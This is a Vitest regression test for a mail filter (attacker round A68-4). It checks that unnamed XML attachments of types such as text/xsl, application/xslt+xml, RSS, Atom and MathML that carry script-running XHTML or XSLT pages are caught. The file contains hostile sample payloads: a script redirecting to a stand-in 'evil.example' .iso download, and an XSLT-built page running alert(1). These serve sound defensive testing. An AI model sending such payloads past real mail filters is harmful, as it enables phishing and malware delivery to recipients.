import { describe, expect, it } from 'vitest';
import { attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 68, A68-4: an unnamed part is saved under the extension its type maps to (Outlook:
// `ATT00001.xsl` for `text/xsl`, as Windows' MIME database registers it; Thunderbird by its own table), and an XML
// file opens in the browser, which runs the scripts of an XHTML page or of the page an XSLT builds. An unnamed
// `text/xml` or `application/xml` part got the XML page scan (round 44), but `text/xsl`, `application/xslt+xml` and
// the other `+xml` types (RSS, Atom, MathML, RDF…) got none: an XHTML page with a script under any of them was
// delivered. Every unnamed XML type is now read as an unnamed `text/xml` part is.
const stack = useLocalStack();
const kit = attackerKit(stack);

const XHTML =
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
  '<script>location = "https://evil.example/invoice.iso"</script></body></html>';
const STYLESHEET =
  '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
  '<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script>' +
  '</body></html></xsl:template></xsl:stylesheet>';

const unnamed = (type: string, data: string, disposition = ''): [Buffer, string] => [
  mail(
    [MIXED],
    withPart(
      `Content-Type: ${type}\r\n${disposition}Content-Transfer-Encoding: base64\r\n\r\n${Buffer.from(data).toString('base64')}`,
    ),
  ),
  Buffer.from(data).toString('base64').slice(0, 40),
];

describe('A68-4: an unnamed XML part of a type other than text/xml holding a script page', () => {
  attachmentTests(kit, {
    'text/xsl (an XHTML page)': unnamed('text/xsl', XHTML),
    'text/xsl (a stylesheet building a page)': unnamed('text/xsl', STYLESHEET),
    'application/xslt+xml': unnamed('application/xslt+xml', XHTML, 'Content-Disposition: attachment\r\n'),
    'application/rss+xml': unnamed('application/rss+xml', XHTML),
    'application/mathml+xml': unnamed('application/mathml+xml; charset=utf-8', XHTML),
    'application/atom+xml': unnamed('application/atom+xml', XHTML),
  });

  it('(control) delivers an unnamed feed, a stylesheet without a page and a plain XHTML page', async () => {
    const feed =
      '<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>' +
      '<item><title>Form 12 filed</title><description>object 3</description></item></channel></rss>';
    const style =
      '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
      '<xsl:template match="/"><invoice><xsl:value-of select="id"/></invoice></xsl:template></xsl:stylesheet>';
    const plain = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><p>Hello</p></html>';
    for (const [type, data] of [
      ['application/rss+xml', feed],
      ['text/xsl', style],
      ['application/xslt+xml', plain],
      ['application/vnd.example.invoice+xml', feed],
    ] as const) {
      expect((await kit.inbound(unnamed(type, data)[0])).verdict, type).toBe('DEFAULT');
    }
  });
});
